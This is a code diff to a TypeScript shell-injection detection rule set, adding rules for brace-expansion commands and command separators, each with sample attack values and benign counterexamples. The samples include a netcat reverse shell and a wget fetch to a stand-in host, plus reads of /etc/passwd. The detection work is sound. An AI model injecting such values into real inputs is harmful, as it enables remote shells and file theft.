@@ -6,7 +6,7 @@
  * path or redirection syntax after it ("Tom & Jerry; cat food" is prose, "x; cat /etc/passwd" is not).
  */
 import type { ValueRule } from "../types.ts";
-import { NAME_START, SP0, SP1, WS0, WS1 } from "./injection-fragments.ts";
+import { NAME_START, SP0, SP1, WS, WS0, WS1 } from "./injection-fragments.ts";
 
 const BT = "`";
 /**
@@ -240,6 +240,21 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
     ],
   },
   {
+    key: "UNIXCMD_BRACE_EXPANSION",
+    family: "UNIXCMD",
+    level: "Standard",
+    // {cat,dog} is a set in prose and code; an option, path, variable or URL as the next word is not
+    regex: `\\{${SP0}${BIN_DIR}${COMMAND}${SP0},${SP0}(?:-|/|~|\\$|\\.|[a-z]+://)`,
+    description: "Brace expansion that builds a command without spaces ({cat,/etc/passwd}, {ls,-la})",
+    examples: [
+      ";{cat,/etc/passwd}",
+      "{ls,-la,/}",
+      "$({wget,http://x.example/a})",
+      "{nc,-e,/bin/sh,x.example,4444}",
+    ],
+    benign: ["{cat,dog,bird}", "{id,name}", "{ls, lists files}", '{"cat": "/x"}'],
+  },
+  {
     key: "UNIXCMD_VARIABLE_SLICE",
     family: "UNIXCMD",
     level: "Standard",
@@ -257,6 +272,15 @@ export const UNIXCMD_RULES: readonly ValueRule[] = [
     description: "A value that starts with a shell command and its arguments (ls -la, cat /etc/hosts)",
     examples: ["ls -la", "cat /etc/hosts", "id -u", "whoami", "ping -c 1 x.example"],
     benign: ["cat food", "lsd", "echo chamber", "idle"],
+  },
+  {
+    key: "UNIXCMD_SEPARATOR_ANY_COMMAND",
+    family: "UNIXCMD",
+    level: "Strict",
+    regex: `${SEPARATOR}${WS0}${BIN_DIR}(?:${COMMAND}|pwd)(?:${WS}|$)`,
+    description: "A command separator, then any command name, with or without arguments (| id, ; ls)",
+    examples: ["| id", "x; ls", "a && whoami", "name;id"],
+    benign: ["Tom & Jerry", "a; identity"],
   },
   {
     key: "UNIXCMD_BACKTICK",
